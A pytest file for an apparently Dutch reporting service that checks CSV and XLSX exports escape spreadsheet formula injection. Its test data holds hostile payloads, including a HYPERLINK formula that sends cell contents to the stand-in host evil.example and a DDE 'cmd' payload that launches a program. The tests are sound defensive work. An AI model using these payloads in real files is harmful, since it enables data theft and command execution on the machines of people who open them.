"""Spreadsheet formula injection (issue 22): no text that reaches a CSV or XLSX the service writes can
become a formula. Every text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a
leading single quote (OWASP); numbers stay numbers, negative ones included."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.db import transaction
from openpyxl import load_workbook

from access.roles import Role
from core.spreadsheets import csv_bytes, safe_cell, xlsx_bytes
from parliament import reports, services

from .factories import add_liaisons, make_case, transaction_event

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Klik")',
    "=1+1",
    "+31 20 123 4567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "=",
]
HARMLESS = ["Normaal Systems B.V.", "", "'al geciteerd", "Onderneming = fonds", "1e10", "a-b"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_cell_with_a_formula_trigger_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [Decimal("-5.00"), -3, -0.5, Decimal("0"), date(2026, 1, 2), None])
def test_numbers_and_dates_are_not_touched(value):
    assert safe_cell(value) == value


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_the_csv_writer_quotes_every_dangerous_text_cell_and_keeps_numbers():
    rows = _csv_rows(csv_bytes(["=kop", "Bedrag"], [[text, Decimal("-12.50")] for text in DANGEROUS + HARMLESS]))
    assert rows[0] == ["'=kop", "Bedrag"]
    assert [r[0] for r in rows[1:]] == ["'" + t for t in DANGEROUS] + HARMLESS
    assert {r[1] for r in rows[1:]} == {
        "-12,50"
    }  # a number, written as a number (decimal comma, as Dutch Excel reads it)


def test_the_xlsx_writer_writes_text_never_formulas_and_numbers_as_numbers():
    content = xlsx_bytes(
        [
            (
                "Blad",
                ["=kop", "Bedrag", "Datum"],
                [[text, Decimal("-12.50"), date(2026, 1, 2)] for text in DANGEROUS + HARMLESS],
            )
        ]
    )
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.cell(row=1, column=1).value == "'=kop"
    for index, text in enumerate(DANGEROUS + HARMLESS, start=2):
        cell = sheet.cell(row=index, column=1)
        assert cell.data_type != "f" and cell.value == (("'" + text) if text in DANGEROUS else (text or None))
        amount = sheet.cell(row=index, column=2)
        assert amount.data_type == "n" and amount.value == -12.5


@pytest.mark.parametrize("company", DANGEROUS[:5])
def test_the_report_writers_quote_a_company_name(company):
    row = {
        "date": date(2026, 2, 1),
        "case": "BEV-2026-0001",
        "company": company,
        "kind": "Eerste investering",
        "kind_code": "first_investment",
        "instrument": "-",
        "amount": Decimal("-1.00"),
        "stake": None,
        "result": Decimal("-3.00"),
        "moic": None,
        "irr": None,
    }
    csv_row = _csv_rows(reports.annual_csv([row]))[1]
    assert csv_row[2] == "'" + company and csv_row[4] == "'-" and csv_row[5] == "-1,00"
    sheet = load_workbook(
        io.BytesIO(reports._xlsx([("Posities", ["Onderneming", "Resultaat"], [[company, Decimal("-3.00")]])]))
    ).active
    assert sheet["A2"].value == "'" + company and sheet["A2"].data_type == "s"
    assert sheet["B2"].data_type == "n"


@pytest.mark.django_db
def test_a_hostile_target_name_is_text_in_the_annual_report(
    api, make_user, officer, manager, django_capture_on_commit_callbacks
):
    kamer = make_user("kamer", Role.PARLIAMENTARY_LIAISON)
    name = '=HYPERLINK("https://evil.example","Klik")'
    case = make_case(officer=officer, team={manager: Role.FUND_MANAGER}, target_name=name)
    add_liaisons(case, by=officer, liaisons=[kamer])
    with transaction.atomic():
        services.letter_requests_create(
            event=transaction_event(case, amount=Decimal("10000000"), executed_on=date(2026, 2, 1), user=manager)
        )
    with django_capture_on_commit_callbacks(execute=True):
        report_id = api(kamer).post("/api/reports/", {"kind": "annual_transactions", "year": 2026}).json()["id"]
    content = api(kamer).get(f"/api/reports/{report_id}/download/csv/").content
    assert _csv_rows(content)[1][2] == "'" + name
    sheet = load_workbook(io.BytesIO(api(kamer).get(f"/api/reports/{report_id}/download/xlsx/").content)).active
    assert sheet.cell(row=2, column=3).value == "'" + name and sheet.cell(row=2, column=3).data_type == "s"
    assert sheet.cell(row=2, column=6).value == 10000000


def test_the_annual_reports_stake_has_two_decimals():
    """Found by trying the product: the CSV's "Belang op peildatum (%)" read "25,000000"."""
    row = {
        "date": date(2026, 2, 1),
        "case": "BEV-2026-0001",
        "company": "Voorbeeld Photonics B.V.",
        "kind": "Eerste investering",
        "kind_code": "first_investment",
        "instrument": "aandelen",
        "amount": Decimal("12500000.00"),
        "stake": Decimal("25.000000"),
        "result": Decimal("0.00"),
        "moic": None,
        "irr": None,
    }
    assert _csv_rows(reports.annual_csv([row]))[1][6] == "25,00"
